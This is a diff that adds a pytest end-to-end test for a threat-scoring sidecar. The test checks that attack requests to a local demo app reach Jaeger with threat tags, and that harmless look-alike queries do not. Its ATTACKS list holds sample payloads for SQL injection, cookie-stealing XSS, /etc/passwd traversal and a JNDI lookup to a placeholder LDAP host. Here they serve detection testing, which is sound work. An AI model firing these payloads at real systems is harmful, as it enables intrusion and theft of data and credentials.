@@ -1,0 +1,81 @@
+"""Threat scoring through the real stack (the local stack runs the sidecar with the threat scorer):
+attack requests against the demo app reach Jaeger annotated with vigil.threat.*; ordinary requests
+that merely look odd do not."""
+
+from __future__ import annotations
+
+import uuid
+
+import pytest
+import requests
+
+from tests.e2e.backends import jaeger_spans, tags, wait_for
+from vigil.processors.stack.components import ENDPOINTS
+
+pytestmark = pytest.mark.stack
+
+DEMO = ENDPOINTS["demo"]["http"]
+SCANNER = "sqlmap/1.8.3#stable (https://sqlmap.org)"
+BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"
+
+ATTACKS = [
+    ("/search/legacy", "x' OR '1'='1", BROWSER, "sqli"),
+    ("/search", "<script>alert(document.cookie)</script>", BROWSER, "xss"),
+    ("/search", "../../../../etc/passwd", BROWSER, "traversal"),
+    ("/search", "${jndi:ldap://198.51.100.7/a}", BROWSER, "jndi"),
+    ("/search", "lamp", SCANNER, "scanner"),
+]
+LOOK_ALIKES = ["O'Brien's lamp", "select the best option", "rock & roll", "50% off; today only", "C++ or C#"]
+
+
+def get(path: str, query: str, marker: str, agent: str) -> None:
+    params = {"q": query, "ref": marker}
+    requests.get(f"{DEMO}{path}", params=params, headers={"User-Agent": agent}, timeout=5)
+
+
+def traces_by_marker(spans: list[dict], markers: list[str]) -> dict[str, list[dict]]:
+    """The spans of each request's trace, found by the marker in its server span's target."""
+    by_trace: dict[str, list[dict]] = {}
+    for span in spans:
+        by_trace.setdefault(span["traceID"], []).append(span)
+    found = {}
+    for trace in by_trace.values():
+        for span in trace:
+            target = str(tags(span).get("http.target", "")) + str(tags(span).get("url.query", ""))
+            for marker in markers:
+                if marker in target:
+                    found[marker] = trace
+    return found
+
+
+def test_attacks_are_annotated_and_look_alikes_are_not(stack):
+    run = uuid.uuid4().hex[:8]
+    attack_markers = [f"{run}-attack-{i}" for i in range(len(ATTACKS))]
+    benign_markers = [f"{run}-benign-{i}" for i in range(len(LOOK_ALIKES))]
+    for marker, (path, query, agent, _) in zip(attack_markers, ATTACKS, strict=True):
+        get(path, query, marker, agent)
+    for marker, query in zip(benign_markers, LOOK_ALIKES, strict=True):
+        get("/search", query, marker, BROWSER)
+
+    markers = attack_markers + benign_markers
+    found = wait_for(
+        lambda: traces_by_marker(jaeger_spans("vigil-demo"), markers),
+        lambda f: len(f) == len(markers),
+        timeout=45,
+    )
+    assert sorted(found) == sorted(markers), "some requests never reached Jaeger"
+
+    for marker, (path, query, _, category) in zip(attack_markers, ATTACKS, strict=True):
+        server = next(s for s in found[marker] if tags(s).get("span.kind") == "server")
+        annotated = tags(server)
+        assert annotated.get("vigil.threat.score", 0) >= 0.5, (path, query, annotated)
+        assert category in str(annotated["vigil.threat.categories"]), (query, annotated)
+        assert annotated["vigil.threat.rules"]
+
+    # The injected tautology also shows in the database span of the legacy search, as SQL structure.
+    legacy_db = [s for s in found[attack_markers[0]] if tags(s).get("db.system") == "sqlite"]
+    assert legacy_db and all(tags(s).get("vigil.threat.score", 0) >= 0.5 for s in legacy_db)
+
+    for marker in benign_markers:
+        scores = [tags(s).get("vigil.threat.score", 0) for s in found[marker]]
+        assert max(scores) < 0.5, (marker, scores)
